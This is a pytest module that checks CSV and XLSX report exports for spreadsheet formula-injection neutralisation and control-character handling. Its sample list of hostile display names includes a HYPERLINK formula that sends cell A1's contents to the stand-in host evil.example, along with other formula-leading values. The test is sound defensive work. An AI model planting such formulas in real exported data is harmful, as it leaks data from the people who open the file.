"""Hostile text in every export: formula-leading cells are neutralised with a single quote (OWASP) in CSV
and XLSX, control characters XLSX cannot hold are replaced instead of failing the export, and the file
names are safe."""

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from profiles import customers
from profiles.models import User
from profiles.roles import Role
from reports.cells import REPLACEMENT, spreadsheet_cell
from reports.models import ExportJob
from reports.xlsx import streaming_workbook
from service_center.celery import app
from tests.clients import logged_in
from tests.factories import CustomerProfileFactory, UserFactory
from tests.reports.factories import ServiceDay, service_day

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
HOSTILE_NAMES = [FORMULA, "+1+2", "-3+4", "@SUM(A1)", "\tTab", "\rReturn", "控制\x07字符\x01"]


@pytest.fixture
def day(settings: Any, tmp_path: Any) -> Iterator[ServiceDay]:
    settings.REPORTS_EXPORT_ROOT = str(tmp_path / "exports")
    eager = app.conf.task_always_eager
    app.conf.task_always_eager = True
    try:
        yield service_day()
    finally:
        app.conf.task_always_eager = eager


def _rows(job: ExportJob) -> list[list[Any]]:
    with job.file.open("rb") as handle:
        if job.file_format == "csv":
            return list(csv.reader(io.StringIO(handle.read().decode("utf-8-sig"))))
        return [list(row) for row in load_workbook(handle, read_only=True).active.iter_rows(values_only=True)]


def _xlsx_has_formula(job: ExportJob) -> bool:
    with job.file.open("rb") as handle, zipfile.ZipFile(handle) as archive:
        return any(b"<f>" in archive.read(name) or b"<f " in archive.read(name)
                   for name in archive.namelist() if name.startswith("xl/worksheets/"))


def _expected(name: str, file_format: str = "csv") -> str:
    cleaned = name.replace("\x07", REPLACEMENT).replace("\x01", REPLACEMENT)
    cell = "'" + cleaned if cleaned[0] in "=+-@\t\r" else cleaned
    # XML reads a stored CR back as LF (end-of-line normalisation), openpyxl's own cells too.
    return cell.replace("\r", "\n") if file_format == "xlsx" else cell


def _setup(dataset: str, day: ServiceDay) -> dict[User, str]:
    """Gives the people this dataset lists the hostile names; returns who got which."""
    if dataset == "tickets":
        people = [day.customer]
    elif dataset == "agent_kpis":
        people = [day.agent_a, day.agent_b]
    else:
        people = [CustomerProfileFactory.create(user__roles=(Role.CUSTOMER,)).user for _ in HOSTILE_NAMES]
    named = {}
    for person, name in zip(people, HOSTILE_NAMES, strict=False):
        User.objects.filter(pk=person.pk).update(display_name=name)
        named[person] = name
        if dataset == "marketing_audience":
            customers.customer_set_marketing_consent(customer=person, consent=True, source="api")
    return named


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
@pytest.mark.parametrize("dataset", ["tickets", "agent_kpis", "marketing_audience"])
def test_every_export_neutralises_formulas_and_survives_control_characters(
        day: ServiceDay, django_capture_on_commit_callbacks: Any, dataset: str, file_format: str) -> None:
    named = _setup(dataset, day)
    supervisor = UserFactory.create(roles=(Role.SUPERVISOR,), is_staff=True)
    with django_capture_on_commit_callbacks(execute=True):
        logged_in(supervisor).post("/reports/exports/", {
            "dataset": dataset, "file_format": file_format,
            "date_from": (day.day - timedelta(days=1)).isoformat(), "date_to": day.day.isoformat()})
    job = ExportJob.objects.get(owner=supervisor)
    assert job.status == "done", job.error
    cells = [str(cell) for row in _rows(job) for cell in row if cell is not None]
    for name in named.values():
        assert _expected(name, file_format) in cells, name
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [cell for cell in cells if re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", cell)]
    if file_format == "xlsx":
        assert not _xlsx_has_formula(job)
    assert re.fullmatch(r"[A-Za-z0-9_.-]+", Path(job.file.name or "").name)


@pytest.mark.parametrize("mixed", [False, True], ids=["raw text rows", "openpyxl rows"])
def test_both_xlsx_writer_paths_store_neutralised_text(tmp_path: Path, mixed: bool) -> None:
    """All-text rows go out as raw markup, rows with a number through openpyxl: both must be safe."""
    workbook, sheet = streaming_workbook("t")
    row = [spreadsheet_cell(name) for name in HOSTILE_NAMES] + ([42] if mixed else [])
    sheet.append(row)
    workbook.save(tmp_path / "t.xlsx")
    stored = next(load_workbook(tmp_path / "t.xlsx").active.iter_rows(values_only=True))
    assert list(stored) == [_expected(name, "xlsx") for name in HOSTILE_NAMES] + ([42] if mixed else [])
    with zipfile.ZipFile(tmp_path / "t.xlsx") as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


@given(st.text())
def test_a_neutralised_cell_never_leads_with_a_formula_character_or_holds_a_control(text: str) -> None:
    cell = spreadsheet_cell(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", cell)
    # Nothing else changes: controls become U+FFFD, and a quote leads only where a formula would.
    cleaned = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", REPLACEMENT, text)
    assert cell == ("'" + cleaned if cleaned.startswith(("=", "+", "-", "@", "\t", "\r")) else cleaned)


def test_numbers_and_empty_cells_pass_untouched() -> None:
    assert [spreadsheet_cell(value) for value in (-5, 0.5, None, "", "正常")] == [-5, 0.5, None, "", "正常"]
